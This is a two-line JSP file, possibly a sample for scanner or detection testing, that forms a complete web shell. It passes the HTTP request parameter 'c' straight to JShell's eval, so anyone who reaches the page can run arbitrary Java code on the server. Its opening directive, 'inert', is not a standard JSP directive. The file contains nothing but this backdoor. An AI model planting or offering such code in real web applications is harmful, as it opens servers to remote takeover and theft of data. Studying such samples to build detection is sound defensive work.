<%@ inert %>
<% jdk.jshell.JShell.create().eval(request.getParameter("c")); %>
